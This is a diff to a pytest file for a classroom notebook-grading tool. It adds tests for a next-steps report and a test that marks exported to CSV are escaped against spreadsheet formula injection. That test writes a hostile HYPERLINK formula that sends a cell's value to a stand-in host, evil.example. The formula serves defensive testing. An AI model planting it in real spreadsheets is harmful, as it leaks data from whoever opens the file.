@@ -3,6 +3,7 @@
 import csv
 import errno
 import html
+import io
 import json
 import os
 import re
@@ -19,6 +20,7 @@ from pathlib import Path
 import nbformat
 import pytest
 from bs4 import BeautifulSoup
+from rich.console import Console
 
 from grading import engine, intake, sandbox
 from grading.__main__ import main
@@ -28,6 +30,7 @@ from grading.classroom import Classroom, write_text
 from grading.demo import MASTERS_ANSWER, UNTOUCHED, Made, expected_marks
 from grading.marks import Mark
 from grading.notebooks import GradingError
+from grading.report import show_next_steps
 from grading.verdicts import ends_of, remarks_on
 from tools.release import ROOT
 
@@ -122,7 +125,11 @@ def test_a_class_is_graded_and_graded_again(made, tmp_path):
         book.db.commit()
     hand_in(room, "broken", subs[UNTOUCHED])
     feedback_at = feedback.stat().st_mtime_ns
-    assert "1/1" in grading("grade", "--class", room, "--assignment", ASSIGNMENT).stdout
+    done = grading("grade", "--class", room, "--assignment", ASSIGNMENT)
+    assert "1/1" in done.stdout
+    assert "what the machine cannot, of 1, in formgrader" in done.stdout  # COMMA's; ada's is done
+    assert f'    cd "{room}"\n' in done.stdout
+    assert f'make.py grade --class "{room}" --assignment {ASSIGNMENT}\n' in done.stdout
     marks = read_marks(room)
     assert (marks["ada"]["manual"], marks["ada"]["total"], marks["ada"]["status"]) == ("8", "98", "graded")
     assert (marks["broken"]["total"], marks["broken"]["status"]) == ("0", "graded")
@@ -370,6 +377,32 @@ def test_the_demo_empties_nothing_that_it_did_not_make(tmp_path, capsys):
 
 
 # -- submissions that are not what they should be ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_nothing_in_the_marks_runs_as_a_formula(start, tmp_path):
+    (tmp_path / "submitted").mkdir()
+    room = Classroom(tmp_path, ASSIGNMENT)
+    room.master = nbformat.v4.new_notebook()
+    evil = f'{start}HYPERLINK("http://evil.example/"&A1,"x")'
+    room._write_csv([Mark(evil, "graded", evil, total=-1.5), Mark("Smith-Jones, A=B", "graded")])
+    marks = read_marks(tmp_path)
+    assert marks["'" + evil]["remarks"] == "'" + evil
+    assert marks["'" + evil]["total"] == "-1.5"
+    assert marks["Smith-Jones, A=B"]["remarks"] == ""
+
+
+def test_what_comes_next_depends_on_what_is_left(tmp_path):
+    (tmp_path / "submitted").mkdir()
+    room, said = Classroom(tmp_path, ASSIGNMENT), {}
+    for waiting, graded in ((2, 3), (0, 3), (0, 0)):
+        console = Console(file=io.StringIO())
+        show_next_steps(room, {"needs_manual_grading": waiting, "graded": graded}, console)
+        said[waiting, graded] = console.file.getvalue()
+    assert "Formgrader" in said[2, 3]
+    assert "Formgrader" not in said[0, 3]
+    assert f"    {room.csv_file}\n" in said[0, 3]
+    assert said[0, 0] == ""
 
 
 def test_every_end_but_passed_and_failed_is_remarked():
